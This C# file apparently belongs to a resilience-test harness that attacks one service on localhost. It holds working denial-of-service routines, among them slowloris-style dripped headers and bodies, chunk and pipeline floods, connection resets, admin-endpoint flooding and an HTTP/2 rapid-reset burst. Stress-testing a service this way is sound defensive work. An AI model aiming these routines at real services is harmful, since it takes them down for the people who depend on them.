using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Freeze.Attack;

/// <summary>What an attacker does with each of its connections, over and over.</summary>
internal static class Attacks
{
    private const string Predict = "POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\n";
    private const int ImageBytes = 3072, BodyBytes = 16 << 20, Few = 64;

    private static readonly TimeSpan s_drip = TimeSpan.FromSeconds(1), s_pause = TimeSpan.FromMilliseconds(100);

    /// <summary>By name: how many connections at most, whether it waits before it connects again, and what it does.</summary>
    public static IReadOnlyDictionary<string, (int Connections, bool Pauses, Func<Socket, CancellationToken, Task> Act)> All { get; } =
        new Dictionary<string, (int, bool, Func<Socket, CancellationToken, Task>)>
        {
            ["idle"] = (int.MaxValue, true, WaitAsync),
            ["keep-alive"] = (int.MaxValue, true, (socket, stop) => SendAsync(socket, "GET /healthz/live HTTP/1.1\r\nHost: localhost\r\n\r\n", stop)),
            ["half heads"] = (int.MaxValue, true, (socket, stop) => DripAsync(socket, "GET / HTTP/1.1\r\nHost: localhost\r\nX: ", stop)),
            ["large half heads"] = (int.MaxValue, true, (socket, stop) => DripAsync(socket, "GET / HTTP/1.1\r\nHost: localhost\r\nX: " + new string('x', 15_000), stop)),
            ["slow bodies"] = (int.MaxValue, true, (socket, stop) => DripAsync(socket, $"{Predict}Content-Length: {ImageBytes}\r\n\r\nx", stop)),
            ["slow large bodies"] = (int.MaxValue, true, (socket, stop) => DripAsync(socket, $"{Predict}Content-Length: {BodyBytes}\r\n\r\n{new string('x', 60_000)}", stop)),
            ["large bodies"] = (Few, true, LargeAsync),
            ["chunks of a byte"] = (Few, true, ChunksAsync),
            ["resets"] = (Few, false, ResetAsync),
            ["requests"] = (Few, true, (socket, stop) => FloodAsync(socket, Whole(""), reads: true, stop)),
            ["pipelines, nothing read"] = (int.MaxValue, true, (socket, stop) => FloodAsync(socket, "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", reads: false, stop)),
            ["metrics, nothing read"] = (int.MaxValue, true, (socket, stop) => FloodAsync(socket, "GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n", reads: false, stop)),
            ["live pages, nothing read"] = (int.MaxValue, true, (socket, stop) => SendAsync(socket, "GET /live HTTP/1.1\r\nHost: localhost\r\n\r\n", stop)),
            ["new streams"] = (Few, true, StreamsAsync),
            ["reloads"] = (Few, true, (socket, stop) => FloodAsync(socket, "POST /admin/reload HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer 0123456789abcdef\r\nContent-Length: 0\r\n\r\n", reads: true, stop)),
            ["HTTP/2"] = (Few, false, SecondVersionAsync),
        };

    public static async Task RunAsync(string kind, IPEndPoint address, int connections, CancellationToken stop)
    {
        var (most, pauses, act) = All[kind];
        await Task.WhenAll(Enumerable.Range(0, Math.Min(most, connections)).Select(_ => Task.Run(
            async () =>
            {
                while (!stop.IsCancellationRequested)
                {
                    using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                    try
                    {
                        await socket.ConnectAsync(address, stop);
                        await act(socket, stop);
                    }
                    catch (SocketException)
                    {
                        // It was cut off, and comes back.
                    }

                    if (pauses) await Task.Delay(s_pause, stop);
                }
            },
            stop)));
    }

    private static string Whole(string header) => $"{Predict}{header}Content-Length: {ImageBytes}\r\n\r\n{new string('x', ImageBytes)}";

    private static async Task WaitAsync(Socket socket, CancellationToken stop)
    {
        var buffer = new byte[256];
        while (await socket.ReceiveAsync(buffer.AsMemory(), stop) > 0)
        {
            // Until the service closes it.
        }
    }

    private static async Task SendAsync(Socket socket, string text, CancellationToken stop)
    {
        // Nothing is read: where there is more than its buffers take, it stays.
        await socket.SendAsync(Encoding.ASCII.GetBytes(text), stop);
        while (socket.Available >= 0 && !(socket.Poll(0, SelectMode.SelectRead) && socket.Available == 0)) await Task.Delay(s_drip, stop);
    }

    private static async Task DripAsync(Socket socket, string head, CancellationToken stop)
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes(head), stop);
        var drop = "x"u8.ToArray();
        while (true)
        {
            await Task.Delay(s_drip, stop);
            await socket.SendAsync(drop, stop);
        }
    }

    private static async Task LargeAsync(Socket socket, CancellationToken stop)
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes($"{Predict}Content-Length: {BodyBytes}\r\n\r\n"), stop);
        await socket.SendAsync(new byte[BodyBytes], stop);
        await socket.ReceiveAsync(new byte[1024].AsMemory(), stop);
    }

    private static async Task ChunksAsync(Socket socket, CancellationToken stop)
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes($"{Predict}Transfer-Encoding: chunked\r\n\r\n"), stop);
        var chunks = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("1\r\nx\r\n", 1000)));
        while (true) await socket.SendAsync(chunks, stop);
    }

    private static Task ResetAsync(Socket socket, CancellationToken stop)
    {
        socket.LingerState = new LingerOption(true, 0);
        return Task.CompletedTask;
    }

    private static async Task FloodAsync(Socket socket, string request, bool reads, CancellationToken stop)
    {
        var (bytes, buffer) = (Encoding.ASCII.GetBytes(request), new byte[4096]);
        while (true)
        {
            await socket.SendAsync(bytes, stop);
            if (reads && await socket.ReceiveAsync(buffer.AsMemory(), stop) == 0) return;
        }
    }

    private static async Task StreamsAsync(Socket socket, CancellationToken stop)
    {
        var buffer = new byte[4096];
        while (true)
        {
            await socket.SendAsync(Encoding.ASCII.GetBytes(Whole($"X-Stream-Id: {Guid.NewGuid():N}{Guid.NewGuid():N}\r\n")), stop);
            if (await socket.ReceiveAsync(buffer.AsMemory(), stop) == 0) return;
        }
    }

    /// <summary>The preface of HTTP/2, then streams that are opened and reset at once.</summary>
    private static async Task SecondVersionAsync(Socket socket, CancellationToken stop)
    {
        using var frames = new MemoryStream();
        frames.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        frames.Write([0, 0, 0, 4, 0, 0, 0, 0, 0]);
        Span<byte> stream = stackalloc byte[4];
        for (var id = 1; id < 2000; id += 2)
        {
            BinaryPrimitives.WriteInt32BigEndian(stream, id);
            frames.Write([0, 0, 4, 1, 5, .. stream, 0x82, 0x86, 0x84, 0x81]);
            frames.Write([0, 0, 4, 3, 0, .. stream, 0, 0, 0, 8]);
        }

        var bytes = frames.ToArray();
        var buffer = new byte[4096];
        await socket.SendAsync(bytes, stop);
        await socket.ReceiveAsync(buffer.AsMemory(), stop);
    }
}
